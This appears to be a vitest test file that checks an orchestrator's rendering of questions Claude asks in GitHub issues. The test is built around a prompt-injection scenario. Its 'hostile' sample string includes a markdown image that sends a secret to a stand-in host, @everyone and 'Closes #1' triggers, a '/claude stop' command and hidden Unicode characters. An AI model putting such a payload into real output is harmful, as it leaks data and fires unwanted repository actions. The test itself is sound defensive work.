import { expect, test } from "vitest";
import type { RunQuestion } from "#domain/question.ts";
import { renderQuestionNotice } from "#domain/surfaces/question.ts";
import { noon } from "#test/builders.ts";

const hostile =
  "@everyone Closes #1 <!-- x --> <img src=x> ![y](https://sink.test/?secret)\n/claude stop \u202Ex\u200B";
const to = { actor: "ada", issue: 12, code: "question_31_1", markerKey: "a key that only the operator has" };

test("S41: what Claude was talked into asking calls nobody, closes nothing, hides nothing and commands nothing", () => {
  const question: RunQuestion = {
    toolUseId: "toolu_1",
    items: [
      { question: hostile, header: hostile, multiSelect: true, options: [{ label: hostile, description: hostile }] },
    ],
    askedAt: noon,
    until: noon + 60_000,
    isReminded: false,
    runnerId: 1,
    epoch: 1,
    seq: 1,
    answer: null,
  };
  const [marker = "", ...rest] = renderQuestionNotice(question, "asked", to).split("\n\n");
  expect(marker).toMatch(/^<!-- cc-orchestrator:/);
  const text = rest.join("\n\n");
  const active = text.replace(/`[^`\n]*`/g, "").replace(/^@ada: /, "");
  expect(active).not.toMatch(/@[A-Za-z]|(?<!\\)#\d|<!--|<img|(?<!\\)!\[|^\/claude/m);
  expect(text).not.toMatch(/[\u200B\u202A-\u202E]/);
  expect(text).toContain("Several of them may be chosen.");
});
